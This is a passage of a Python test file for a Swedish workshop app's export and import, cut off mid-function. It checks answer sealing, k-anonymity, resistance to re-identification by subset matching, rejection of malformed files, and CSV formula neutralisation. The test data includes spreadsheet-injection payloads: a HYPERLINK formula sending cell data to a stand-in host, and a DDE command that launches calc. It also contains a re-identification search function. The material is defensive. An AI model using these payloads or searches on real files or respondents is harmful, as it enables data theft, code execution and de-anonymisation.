            assert not any(person["group"] for person in facilitator.participants.values())
            assert not (facilitator.spectrum or {})["groups"] and (facilitator.spectrum or {})["hidden_groups"] == 0

    # The attack as it was: a version-2 file of this deployment (whose seals this server's
    # key opens), cut down to Åsa (P0, in Chefer) with her answers, readable in version 2.
    asa = {key: value for key, values in ANSWERS.items() if (value := values[0]) is not None}
    sealer = server_sealer(server)
    old = cut_to_one_respondent(document, asa)
    for name in ("answers_sealed", "open_answers"):
        old.pop(name, None)
    old.update(
        schema_version=2,
        respondents=[{"id": "r1", "group_seal": sealer.seal("chefer", V2_GROUP_SEAL)}],
        scores=[
            {"respondent": "r1", "round": r, "kind": kind, "statement_id": s, "value": value}
            for (r, kind, s), value in asa.items()
        ],
    )
    response = await import_file(http, old)
    assert response.status_code == 201, response.text
    async with console(clients, response.json()) as facilitator:
        assert facilitator.participants == {}, "a respondent from a file is nobody who joined"
        assert not (facilitator.spectrum or {})["groups"] and (facilitator.spectrum or {})["hidden_groups"] == 0
    assert response.json()["restored"] == "answers" and response.json()["groups_not_restored"] == 1
    again = (await export(http, response.json(), "json")).json()
    assert again["participants"] == again["respondents"] == 1
    assert again["group_figures"] == [] and again["hidden_groups"] == 0, "the group stays sealed"


async def test_only_the_exporting_rooms_facilitator_restores_the_answers(
    http: httpx.AsyncClient,
    server: ServerProcess,
    database_url: str,
    new_room: NewRoom,
    clients: MakeClient,
    tmp_path: Path,
) -> None:
    """A wrong token is refused; a co-facilitator's key, an edited seal and a seal from
    another deployment restore no answer; the original facilitator's token restores all."""
    room, people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()

    another_rooms = (await new_room())["facilitator_token"]
    for token in ("not-a-token", people[0].token or "", another_rooms):
        refused = await import_file(http, document, token)
        assert refused.status_code == 403 and refused.json()["code"] == "forbidden", (token, refused.text)

    made = await http.post(
        f"/api/rooms/{room['room_id']}/co-facilitators",
        json={"label": "Kollega"},
        headers={"Authorization": f"Bearer {room['facilitator_token']}"},
    )
    assert made.status_code == 201, made.text
    co_facilitator = made.json()["token"]
    assert (await export(http, {**room, "facilitator_token": co_facilitator}, "json")).json()["respondents"] == 7
    refused = await import_file(http, document, co_facilitator)
    assert refused.status_code == 403 and refused.json()["code"] == "forbidden", refused.text

    sealed = document["answers_sealed"]
    middle = len(sealed) // 2
    edited = sealed[:middle] + ("B" if sealed[middle] == "A" else "A") + sealed[middle + 1 :]
    response = await import_file(http, {**document, "answers_sealed": edited}, room["facilitator_token"])
    assert response.status_code == 201, response.text
    assert (response.json()["restored"], response.json()["groups_not_restored"]) == ("figures", 7)

    with another_deployment(database_url, tmp_path) as elsewhere:
        await asyncio.to_thread(elsewhere.start)
        async with talking_to(elsewhere) as (other_http, other_new_room, other_clients):
            other_room, _ = await workshop(other_new_room, other_clients)
            other = (await export(other_http, other_room, "json")).json()
    for file, token in (
        (other, other_room["facilitator_token"]),
        ({**document, "answers_sealed": other["answers_sealed"]}, room["facilitator_token"]),
    ):
        response = await import_file(http, file, token)
        assert response.status_code == 201, response.text
        assert (response.json()["restored"], response.json()["groups_not_restored"]) == ("figures", 7)
        again = (await export(http, response.json(), "json")).json()
        assert again["group_figures"] == [] and again["hidden_groups"] == 0
        async with console(clients, response.json()) as facilitator:
            assert not any(person["group"] for person in facilitator.participants.values())

    response = await import_file(http, document, room["facilitator_token"])
    assert response.status_code == 201, response.text
    assert (response.json()["restored"], response.json()["groups_not_restored"]) == ("answers", 0)
    again = (await export(http, response.json(), "json")).json()
    restored = opened(server_sealer(server), again, response.json()["facilitator_token"])
    assert restored is not None and as_people(restored) == sent_people()
    assert [g["group_id"] for g in again["group_figures"]] == ["chefer"] and again["hidden_groups"] == 1


async def test_the_facilitators_import_is_no_oracle_for_withheld_figures(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """The original facilitator may restore the answers, but must learn nothing from an
    import that the k rule holds back from everyone, them included (k is at least 2).

    Only Åsa said where s3 should be (9): the export holds that figure back ("withheld":
    1). Importing the file with the token while un-withholding that figure with a guess
    must not say whether the guess is right, or ten imports read her answer. The same for
    the hidden group Medarbetare (two people, 6 and 8 on s1 this round): a group figure
    added with a guess must not be accepted only when the guess is right."""
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    index = next(i for i, a in enumerate(document["aggregates"]) if a["withheld"] is not None)
    assert document["aggregates"][index]["withheld"] == 1
    outcomes = {}
    for guess in range(1, 11):
        forged: dict[str, Any] = json.loads(json.dumps(document))
        forged["aggregates"][index].update(figures_of([guess]), insight=None)
        response = await import_file(http, forged, room["facilitator_token"])
        outcomes[guess] = response.status_code

    staff = TRUTH.groups["staff"]
    assert TRUTH.values((2, "today", "s1"), staff) == [6, 8] and document["hidden_groups"] == 1
    group_outcomes = {}
    for pair in ([6, 8], [6, 7]):
        forged = json.loads(json.dumps(document))
        figures = []
        for key in KEYS:
            values = TRUTH.values(key, staff)
            shown = (
                figures_of(pair) if key == (2, "today", "s1") else held_back(len(values)) if values else figures_of([])
            )
            figures.append({**shown, "round": key[0], "kind": key[1], "statement_id": key[2], "insight": None})
        forged["group_figures"].append({"group_id": "staff", "name": "Medarbetare", "voters": 2, "aggregates": figures})
        response = await import_file(http, forged, room["facilitator_token"])
        group_outcomes[f"{pair}"] = response.status_code
    assert (len(set(outcomes.values())), len(set(group_outcomes.values()))) == (1, 1), (
        f"the import tells a withheld answer apart ({outcomes}), or a hidden group's ({group_outcomes})"
    )


# The subset-matching room: nine people, two groups of three and three without, ten
# statements, everyone grades everything in round 1 (rows: people, columns: s1..s10).
NINE = [
    [3, 10, 2, 5, 2, 8, 8, 8, 7, 4],
    [2, 8, 1, 7, 7, 10, 1, 8, 5, 4],
    [10, 2, 6, 1, 1, 1, 9, 1, 7, 4],
    [7, 1, 9, 4, 8, 8, 9, 4, 6, 4],
    [4, 8, 5, 1, 7, 9, 2, 3, 5, 2],
    [6, 9, 7, 9, 4, 5, 5, 10, 8, 9],
    [7, 10, 1, 8, 4, 7, 7, 3, 6, 9],
    [6, 2, 8, 9, 2, 3, 9, 7, 6, 8],
    [1, 8, 1, 5, 10, 10, 10, 7, 3, 3],
]
NINE_GROUPS = {"ledning": [0, 5, 8], "vard": [1, 3, 6]}
NINE_TRUTH = Truth(
    answers={(1, "today", f"s{s + 1}"): [row[s] for row in NINE] for s in range(10)},
    groups=NINE_GROUPS,
    people=9,
)
AnswerRows = dict[str, dict[str, int]]  # pseudonym -> statement -> grade


def matching_subsets(rows: AnswerRows, histograms: dict[str, list[int]]) -> list[frozenset[str]]:
    """The attacker's search: every set of respondents whose answers give exactly a group's
    histograms, statement by statement."""
    size = sum(next(iter(histograms.values())))
    found = []
    for subset in itertools.combinations(sorted(rows), size):
        if all(
            [sum(rows[r].get(s) == value for r in subset) for value in range(1, 11)] == histogram
            for s, histogram in histograms.items()
        ):
            found.append(frozenset(subset))
    return found


def answer_rows_in_json(document: dict[str, Any]) -> AnswerRows:
    """Every answer a reader finds under a pseudonym in a JSON export (outside the seal)."""
    rows: AnswerRows = {}

    def walk(value: object) -> None:
        if isinstance(value, dict):
            if "respondent" in value and "statement_id" in value:
                rows.setdefault(str(value["respondent"]), {})[str(value["statement_id"])] = int(value["value"])
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk({key: item for key, item in document.items() if key != "answers_sealed"})
    return rows


def answer_rows_in_csv(rows: list[list[str]]) -> AnswerRows:
    """Every row of a CSV export that a reader could take for one person's answer."""
    found: AnswerRows = {}
    for row in rows:
        if row and re.fullmatch(r"r\d+", row[0]) and len(row) >= 6:
            found.setdefault(row[0], {})[f"s{row[3]}"] = int(row[5])
    return found


async def test_one_export_holds_nothing_to_match_against_the_groups(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    """Issue 22, attack 4. Nine respondents, two groups of three (k = 3), ten statements:
    version 2's JSON and CSV held every answer under a pseudonym beside the groups' figures,
    and matching the answers against a group's histograms left exactly one subset of three
    (84 tries). The search still finds each group from answer-level data; but the readable
    JSON and CSV hold none (the answers are sealed, opaque), so it has nothing to match,
    and the note pseudonyms are drawn afresh for every export, so no two exports line up."""
    room = await new_room(title="Nio svarande")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command(
        "set_groups", groups=[{"id": "ledning", "name": "Ledning"}, {"id": "vard", "name": "Vård"}]
    )
    people = [clients(room["room_id"]) for _ in NINE]
    group_of = {member: group for group, members in NINE_GROUPS.items() for member in members}
    for index, (person, grades) in enumerate(zip(people, NINE, strict=True)):
        await person.connect(name=f"Person {index}")
        if index in group_of:
            await person.command("set_profile", group=group_of[index])
        for number, grade in enumerate(grades, start=1):
            await person.command("set_score", statement_id=f"s{number}", value=grade)
        await person.command("add_note", area_id="thoughts", text=f"Lapp av person {index}")
    await facilitator.wait_until(lambda: len(facilitator.notes) == len(NINE))
    notes = {note["text"]: note["id"] for note in facilitator.notes.values()}
    for index, person in enumerate(people):
        await person.command("vote_note", note_id=notes[f"Lapp av person {(index + 1) % 9}"], voted=True)

    document = (await export(http, room, "json")).json()
    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))

    # The groups' histograms are there to match against, each statement's, as computed here.
    targets: dict[str, dict[str, list[int]]] = {}
    for group in document["group_figures"]:
        targets[group["group_id"]] = {a["statement_id"]: a["histogram"] for a in group["aggregates"]}
        for a in group["aggregates"]:
            assert_figures(a, NINE_TRUTH.expected((1, "today", a["statement_id"]), group["group_id"]), a)
    assert sorted(targets) == ["ledning", "vard"] and document["hidden_groups"] == 0
    # ... and with answer-level data the search finds each group, and only it.
    sent: AnswerRows = {f"r{i + 1}": {f"s{s + 1}": grade for s, grade in enumerate(row)} for i, row in enumerate(NINE)}
    for group, members in NINE_GROUPS.items():
        assert matching_subsets(sent, targets[group]) == [frozenset(f"r{m + 1}" for m in members)]

    # The readable JSON holds no answer-level data: nothing to search.
    assert set(document) == {
        "schema_version",
        "exported_at",
        "room",
        "template",
        "participants",
        "respondents",
        "answers_sealed",
        "open_answers",
        "aggregates",
        "overall",
        "voters",
        "group_figures",
        "hidden_groups",
        "notes",
    }
    assert document["respondents"] == 9 and document["open_answers"] is None
    assert answer_rows_in_json(document) == {} and answer_rows_in_csv(rows) == {}
    for group in targets:
        assert matching_subsets(answer_rows_in_json(document), targets[group]) == []
        assert matching_subsets(answer_rows_in_csv(rows), targets[group]) == []
    readable = list(strings_in({**document, "answers_sealed": None}))
    assert not [s for s in readable if re.fullmatch(r"r\d+|p_.*", s)], "no respondent or participant id"
    # The CSV: a title, a header and ten rows of figures; a blank row; the groups' section.
    assert len(rows) == 1 + 1 + 10 + 1 + 1 + 1 + 20, rows
    assert [row[0] for row in rows[-20:]] == ["Ledning"] * 10 + ["Vård"] * 10

    # The seal is opaque: it does not compress (no plain answers in it), it is not the same
    # twice, no other key opens it; this server's key and the room's token give the answers.
    again = (await export(http, room, "json")).json()
    sealed = document["answers_sealed"]
    assert re.fullmatch(r"[A-Za-z0-9_-]+", sealed)
    raw = base64.urlsafe_b64decode(sealed + "=" * (-len(sealed) % 4))
    assert len(zlib.compress(raw, 9)) >= len(raw)
    assert again["answers_sealed"] != sealed and len(again["answers_sealed"]) == len(sealed)
    assert (
        export_answers.open_answers(Sealer(b"\x01" * 32), sealed, hash_token(room["facilitator_token"]), [], []) is None
    )
    in_seal = opened(server_sealer(server), document, room["facilitator_token"])
    assert in_seal is not None and as_people(in_seal) == sent_people(NINE_TRUTH, group_of)

    # Note pseudonyms are drawn afresh: over ten exports, the pseudonym of person 0's note
    # and of the one vote person 8 gave (for person 0's note) change.
    authors, voters = set(), set()
    for _ in range(10):
        taken = (await export(http, room, "json")).json()
        (note,) = [n for n in taken["notes"] if n["text"] == "Lapp av person 0"]
        authors.add(note["author"])
        voters.update(note["voters"])
        assert {n["author"] for n in taken["notes"]} == {f"a{i}" for i in range(1, 10)}
        assert {v for n in taken["notes"] for v in n["voters"]} == {f"v{i}" for i in range(1, 10)}
    assert len(authors) > 1 and len(voters) > 1, (authors, voters)


# ---------------------------------------------------------------- every version imports


def corpus_files() -> list[Path]:
    return sorted(CORPUS.glob("*.json"))


def read_json(path: Path) -> dict[str, Any]:
    return json.loads(path.read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def open_answer_figures(scores: list[dict[str, Any]]) -> dict[Key, dict[str, Any]]:
    """A version-2 file's whole-room figures, by hand from its readable answers."""
    values: dict[Key, list[Answer]] = {}
    for score in scores:
        values.setdefault((score["round"], score["kind"], score["statement_id"]), []).append(score["value"])
    return {key: figures_of(given) for key, given in values.items()}


async def test_a_version_2_file_imports_with_its_answers_and_without_groups(
    http: httpx.AsyncClient, server: ServerProcess
) -> None:
    """tests/export_corpus/v2-grades-groups-round2.json was written by version 2 (on another
    deployment): it imports with its readable answers, without groups and group figures,
    and exports again as version 3 whose figures are those of its answers (those the v2
    file shows too, where both show them: version 2 had another k rule)."""
    path = CORPUS / "v2-grades-groups-round2.json"
    old = read_json(path)
    assert old["schema_version"] == 2 and old["group_figures"], "a v2 file with group figures"
    response = await import_file(http, old)
    assert response.status_code == 201, response.text
    copy = response.json()
    assert (copy["restored"], copy["groups_not_restored"]) == ("answers", len(old["respondents"]))
    new = (await export(http, copy, "json")).json()
    BoardExport.model_validate(new)
    assert new["schema_version"] == SCHEMA_VERSION and new["open_answers"] is None
    assert new["group_figures"] == [] and new["hidden_groups"] == 0
    assert new["respondents"] == len(old["respondents"]) and new["participants"] == old["participants"]
    by_hand = open_answer_figures(old["scores"])
    k = old["room"]["group_min_size"]
    compared = 0
    old_figures = room_figures(old)
    for key, got in room_figures(new).items():
        expected = by_hand.get(key, figures_of([]))
        if expected["n"] >= k or not expected["n"] + expected["unknown"]:
            assert_figures(got, expected, key)
        else:
            assert got["withheld"] == expected["n"] + expected["unknown"], key
        was = old_figures[key]
        if got["withheld"] is None and was["withheld"] is None:
            compared += 1
            for name in ("n", "unknown", "histogram", "mean", "median", "sd"):
                assert got[name] == pytest.approx(was[name]), (key, name)
    assert compared >= len(KEYS) - 2 and any(a["withheld"] for a in old["aggregates"])
    sealed = opened(server_sealer(server), new, copy["facilitator_token"])
    assert sealed is not None and all(person.group is None for person in sealed)
    by_respondent: dict[str, set[tuple[int, str, str, int]]] = {}
    for score in old["scores"]:
        entry = (score["round"], score["kind"], score["statement_id"], stored(score["value"]))
        by_respondent.setdefault(score["respondent"], set()).add(entry)
    assert as_people(sealed) == Counter((None, frozenset(given)) for given in by_respondent.values())
    assert [(n["area_id"], n["text"]) for n in new["notes"]] == [(n["area_id"], n["text"]) for n in old["notes"]]


async def test_every_export_ever_written_imports_and_exports_again(http: httpx.AsyncClient) -> None:
    """Each file of tests/export_corpus/ (one per version, written by that version's code and
    never changed) imports, exports as the current version with the figures it showed, and
    that export imports again with everything, for whoever holds the new room's token."""
    files = corpus_files()
    assert {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in files} == CORPUS_SHA256
    versions = {read_json(path)["schema_version"] for path in files}
    assert versions == set(range(OLDEST_READ, SCHEMA_VERSION + 1)), f"a corpus file for every version: {versions}"
    for path in files:
        document = read_json(path)
        response = await import_file(http, document)
        assert response.status_code == 201, (path.name, response.text)
        copy = response.json()
        # v2 answers are readable, so they come back; a later file's seal is another
        # deployment's (the one that wrote it): its figures come back.
        assert copy["restored"] == ("answers" if document["schema_version"] == 2 else "figures"), path.name
        again = (await export(http, copy, "json")).json()
        BoardExport.model_validate(again)
        assert again["schema_version"] == SCHEMA_VERSION, path.name
        before, after = room_figures(document), room_figures(again)
        shown_in_both = [key for key in before if before[key]["withheld"] is None and after[key]["withheld"] is None]
        assert len(shown_in_both) >= len(KEYS) - 2, path.name
        for key in shown_in_both:
            for name in ("n", "unknown", "histogram", "mean", "median", "sd"):
                assert after[key][name] == pytest.approx(before[key][name]), (path.name, key, name)
        assert [(n["area_id"], n["text"]) for n in again["notes"]] == [
            (n["area_id"], n["text"]) for n in document["notes"]
        ], path.name
        assert {name: again["room"][name] for name in ("title", "case_number", "groups", "round")} == {
            name: document["room"][name] for name in ("title", "case_number", "groups", "round")
        }, path.name
        back = await import_file(http, again, copy["facilitator_token"])
        assert back.status_code == 201, (path.name, back.text)
        assert (back.json()["restored"], back.json()["answers_not_restored"]) == ("answers", 0), path.name
        assert normalised((await export(http, back.json(), "json")).json()) == normalised(again), path.name


async def test_the_export_schema_changes_only_with_a_new_version(http: httpx.AsyncClient) -> None:
    """The current model's JSON Schema is the one stored for its version: a change of shape
    needs a new schema_version, an upgrader (app/export_versions.py) and a file of its own,
    and the stored files of earlier versions stay as they were written."""
    stored_files = {int(path.stem[1:]): path for path in SCHEMAS.glob("v*.json")}
    assert sorted(stored_files) == list(range(OLDEST_READ, SCHEMA_VERSION + 1))
    current = read_json(stored_files[SCHEMA_VERSION])
    model = json.loads(json.dumps(BoardExport.model_json_schema()))
    assert model == current, (
        f"BoardExport's JSON Schema is not app/export_schemas/v{SCHEMA_VERSION}.json: a changed export "
        "needs a new schema_version, an upgrader and a schema file of its own"
    )
    served = (await http.get("/api/schema/export.json")).json()
    assert served == current and served["title"] == "BoardExport"
    assert {"schema_version", "room", "template", "participants", "respondents", "aggregates", "notes"} <= set(
        served["required"]
    )
    for version, path in stored_files.items():
        response = await http.get(f"/api/schema/export-v{version}.json")
        assert response.status_code == 200 and response.json() == read_json(path), version
    assert (await http.get(f"/api/schema/export-v{SCHEMA_VERSION + 1}.json")).status_code == 404
    assert (await http.get(f"/api/schema/export-v{OLDEST_READ - 1}.json")).status_code == 404


# ---------------------------------------------------------------- bad files


async def test_bad_imports_are_refused_and_leave_nothing(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    good = (await export(http, room, "json")).json()
    v2 = read_json(CORPUS / "v2-grades-groups-round2.json")
    engine = make_engine(server.env["SAMSKAPA_DATABASE_URL"])

    def rooms_stored() -> int:
        with engine.connect() as connection:
            return int(connection.execute(text("SELECT count(*) FROM room")).scalar_one())

    def changed(**parts: Any) -> bytes:
        return json.dumps({**good, **parts}).encode()

    def changed_v2(**parts: Any) -> bytes:
        return json.dumps({**v2, **parts}).encode()

    def raised(place: str, name: str) -> bytes:
        """`good` with one figure raised by 0.5 (place: aggregates.i or group_figures.g.aggregates.i)."""
        document: dict[str, Any] = json.loads(json.dumps(good))
        target: Any = document
        for part in place.split("."):
            target = target[int(part)] if part.isdigit() else target[part]
        target[name] += 0.5
        return json.dumps(document).encode()

    shown = next(i for i, a in enumerate(good["aggregates"]) if a["mean"] is not None)
    in_group = next(i for i, a in enumerate(good["group_figures"][0]["aggregates"]) if a["mean"] is not None)
    other_insight = next(i for i in ("agreement", "spread", "two_camps") if i != good["aggregates"][shown]["insight"])
    first_score, first_note = v2["scores"][0], good["notes"][0]
    # A round-1 answer said to be a desired one (where its respondent gave none): the
    # figures of both kinds disagree with the answers.
    given = {(s["respondent"], s["round"], s["kind"], s["statement_id"]) for s in v2["scores"]}
    shifted = next(
        s
        for s in v2["scores"]
        if s["kind"] == "today" and (s["respondent"], s["round"], "desired", s["statement_id"]) not in given
    )
    shifted_kind = {**shifted, "kind": "desired"}
    # Readable answers (as only an upgraded v2 file has) beside group figures.
    readable = [
        {"respondent": f"r{person + 1}", "round": r, "kind": kind, "statement_id": s, "value": value}
        for (r, kind, s), values in ANSWERS.items()
        for person, value in enumerate(values)
        if value is not None
    ]
    # A seal of this deployment, for this room and token, that does not fit the file's groups.
    token_hash = hash_token(room["facilitator_token"])
    unfitting = export_answers.seal_answers(
        server_sealer(server),
        room["room_id"],
        token_hash,
        [statement["id"] for statement in good["template"]["statements"]],
        ["chefer"],
        [export_answers.Respondent("chefer", (export_answers.Answer(1, "today", "s1", 3, 3, 3),))],
    )
    before = rooms_stored()
    try:
        cases: list[tuple[bytes, int, str, str]] = [
            (b"{not json", 422, "invalid_json", "not JSON"),
            (changed(schema_version=1), 422, "unsupported_schema_version", "schema_version 1 "),
            (
                changed(schema_version=SCHEMA_VERSION + 1),
                422,
                "unsupported_schema_version",
                f"schema_version {SCHEMA_VERSION + 1} ",
            ),
            (changed(schema_version="3"), 422, "unsupported_schema_version", "schema_version '3' "),
            (changed(schema_version=True), 422, "unsupported_schema_version", "schema_version True "),
            (
                json.dumps({k: v for k, v in good.items() if k != "schema_version"}).encode(),
                422,
                "unsupported_schema_version",
                "schema_version None ",
            ),
            (
                json.dumps({k: v for k, v in good.items() if k != "template"}).encode(),
                422,
                "invalid_export",
                "template",
            ),
            # Every figure is what its histogram gives (issue 22: a mean raised by 0.5 passed).
            *[
                (raised(f"aggregates.{shown}", name), 422, "invalid_export", f"aggregates.{shown}.{name}")
                for name in ("mean", "median", "sd")
            ],
            (
                raised(f"group_figures.0.aggregates.{in_group}", "mean"),
                422,
                "invalid_export",
                f"group_figures.0.aggregates.{in_group}.mean",
            ),
            (changed(overall=good["overall"] + 0.5), 422, "invalid_export", "overall"),
            (
                changed(
                    aggregates=[
                        {**a, "insight": other_insight} if i == shown else a for i, a in enumerate(good["aggregates"])
                    ]
                ),
                422,
                "invalid_export",
                f"aggregates.{shown}.insight",
            ),
            (
                changed(answers_sealed=None, open_answers=readable),
                422,
                "invalid_export",
                "open_answers travel neither with group_figures",
            ),
            (changed(open_answers=readable, group_figures=[]), 422, "invalid_export", "answers_sealed"),
            (
                changed(group_figures=[{**good["group_figures"][0], "group_id": "nowhere"}]),
                422,
                "invalid_export",
                "group_figures.0.group_id",
            ),
            (
                changed(notes=[{**first_note, "area_id": "nowhere"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.area_id",
            ),
            (
                changed(notes=[{**first_note, "voters": ["p_Xc83rpn30rOQOdOS"]}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.voters.0",
            ),
            (changed(participants=3), 422, "invalid_export", "participants"),
            (changed(participants=5001), 422, "limit_reached", "5,001 participants"),
            # Version 2's readable answers are checked as they were (under the name the
            # upgraded file gives them: open_answers).
            (
                changed_v2(scores=[{**first_score, "value": 11}, *v2["scores"][1:]]),
                422,
                "invalid_export",
                ".0.value",
            ),
            (
                changed_v2(scores=[{**first_score, "respondent": "r99"}, *v2["scores"][1:]]),
                422,
                "invalid_export",
                "respondents",
            ),
            (
                changed_v2(scores=[{**first_score, "round": 3}, *v2["scores"][1:]]),
                422,
                "invalid_export",
                ".0.round",
            ),
            (
                changed_v2(scores=[shifted_kind if s is shifted else s for s in v2["scores"]]),
                422,
                "invalid_export",
                "aggregates",
            ),
            (b" " * (50 * 1024 * 1024), 413, "too_large", "MB"),
            # A nesting bomb was a 500 (issue 17); a NUL was stored on SQLite, a 500 on PostgreSQL.
            (b"[" * 2048, 422, "invalid_json", "not JSON"),
            (b'{"schema_version": 3, "room": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 422, "invalid_json", "JSON"),
            (
                changed(notes=[{**first_note, "author_name": "Å\u0000sa"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.author_name",
            ),
            (
                changed(notes=[{**first_note, "text": "Lapp\u001b[31m"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.text",
            ),
            (changed(room={**good["room"], "title": "\u0000"}), 422, "invalid_export", "room.title"),
        ]
        for body, status, code, named in cases:
            response = await http.post("/api/rooms/import", content=body, timeout=60)
            assert response.status_code == status, (named, response.text[:300])
            assert response.json()["code"] == code, (named, response.json())
            assert named in response.json()["message"], (named, response.json()["message"])
        # A seal this deployment made whose answers do not fit the file, opened with the token.
        response = await http.post(
            "/api/rooms/import",
            content=changed(answers_sealed=unfitting),
            headers={"Authorization": f"Bearer {room['facilitator_token']}"},
        )
        assert response.status_code == 422 and response.json()["code"] == "invalid_export", response.text
        assert "answers_sealed" in response.json()["message"]
        assert rooms_stored() == before, "nothing half-imported remains"
    finally:
        engine.dispose()
    # The control: the readable answers without the group figures are a file that imports.
    control = {**good, "answers_sealed": None, "open_answers": readable, "group_figures": [], "hidden_groups": 0}
    response = await import_file(http, control)
    assert response.status_code == 201, response.text
    assert (response.json()["restored"], response.json()["groups_not_restored"]) == ("answers", 7)


# ---------------------------------------------------------------- the other formats


async def test_markdown_tells_the_story(http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient) -> None:
    room, _people = await workshop(new_room, clients)
    markdown = (await export(http, room, "md")).text
    assert markdown.startswith("# Äldreomsorgen Åmål")
    assert "9 deltagare, varav 7 graderade" in markdown
    assert "Vilka resursstrukturer finns i vår verksamhet?" in markdown
    assert "## Nästa steg" in markdown and "### Vad gör vi nu? – Aktiviteter vi vill få igång" in markdown
    now = markdown.split("### Vad gör vi nu?", 1)[1]
    assert now.index("- [ ] Prova ett nytt mötesformat (↔ om påstående 3)") < now.index("Bjud in brukare")
    assert r"Bjud in brukare; till \| planeringen \*nu\* — Bo" in markdown, "user text is escaped"
    assert "Värdet uppstår hos brukaren — Åsa (3 röster)" in markdown


async def test_exports_are_for_the_facilitator_only(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    alice = clients(room["room_id"])
    await alice.connect()
    url = f"/api/rooms/{room['room_id']}/export"
    assert (await http.get(url)).json()["code"] == "unauthorized"
    refused = await http.get(url, headers={"Authorization": f"Bearer {alice.token}"})
    assert refused.status_code == 403 and refused.json()["code"] == "forbidden"
    bad_format = await http.get(
        url, params={"format": "pdf"}, headers={"Authorization": f"Bearer {room['facilitator_token']}"}
    )
    assert bad_format.status_code == 422


FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


async def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Issue 17: poles and group names went into the CSV raw, so a spreadsheet ran them as
    formulas. Each cell that begins with = + - @ (or tab or CR) now begins with a quote."""
    template = builtin_templates()["tjanstelogik"].model_dump(mode="json")
    template["statements"][0]["left"] = {"sv": FORMULAS[0]}
    template["statements"][0]["right"] = {"sv": FORMULAS[1]}
    template["statements"][1]["left"] = {"sv": FORMULAS[2]}
    template["statements"][1]["right"] = {"sv": FORMULAS[3]}
    room = await new_room(title="Formler", template=template)
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", group_min_size=2)
    await facilitator.command("set_groups", groups=[{"id": "g", "name": "=1+1"}, {"id": "h", "name": "@A1"}])
    for group in ("g", "g", "h", "h"):
        person = clients(room["room_id"])
        await person.connect()
        await person.command("set_profile", group=group)
        await person.command("set_score", statement_id="s1", value=3)
        await person.command("set_score", statement_id="s2", value="unknown")
    ack = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= ack["seq"])
    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"} and not NUMBER.fullmatch(c)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    for formula in (*FORMULAS, "=1+1", "@A1"):
        assert "'" + formula in cells, f"{formula!r} is kept, behind a quote"
    assert [row[0] for row in rows if row[:1] and row[0] in {"'=1+1", "'@A1"}], "the group rows are there"


@pytest.fixture(scope="module")
def chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        if IN_CI:
            pytest.fail("CI=true but chromium is not installed (.ci/run installs it)")
        pytest.skip("chromium is not installed")
    return path


async def test_html_report_is_self_contained_and_prints(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient, chromium: str, tmp_path: Path
) -> None:
    room, _people = await workshop(new_room, clients)
    report = (await export(http, room, "html")).text
    assert report.startswith("<!doctype html>") and '<html lang="sv">' in report
    for external in ("http://", "https://", "src=", "@import", "url("):
        assert external not in report.replace('xmlns="http://www.w3.org/2000/svg"', ""), external
    assert report.count("<svg") == 11  # ten distributions and the profile
    assert "@page { size: A4" in report
    source = tmp_path / "report.html"
    source.write_text(report, encoding="utf-8")
    pdf = tmp_path / "report.pdf"
    command = [
        chromium,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--no-pdf-header-footer",
        f"--print-to-pdf={pdf}",
        source.as_uri(),
    ]
    await asyncio.to_thread(subprocess.run, command, check=True, capture_output=True, timeout=90, env={**os.environ})
    text_in_pdf = " ".join(page.extract_text() for page in PdfReader(pdf).pages)
    flat = " ".join(text_in_pdf.split())
    assert "Äldreomsorgen Åmål" in flat
    for pole in SWEDISH_LEFT_POLES:
        assert pole in flat, pole


async def test_an_export_is_one_consistent_snapshot_while_people_write(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    writers = [clients(room["room_id"]) for _ in range(3)]
    for writer in writers:
        await writer.connect()
    acked: dict[str, int] = {}
    stop = asyncio.Event()

    async def keep_writing(writer: RoomClient, number: int) -> None:
        count = 0
        while not stop.is_set() and count < 60:
            text_ = f"Lapp {number}-{count}"
            reply = await writer.command("add_note", area_id="insights", text=text_)
            acked[text_] = reply["seq"]
            count += 1

    tasks = [asyncio.create_task(keep_writing(w, i)) for i, w in enumerate(writers)]
    exports = []
    for _ in range(6):
        exports.append((await export(http, room, "json")).json())
    stop.set()
    await asyncio.gather(*tasks)
    for document in exports:
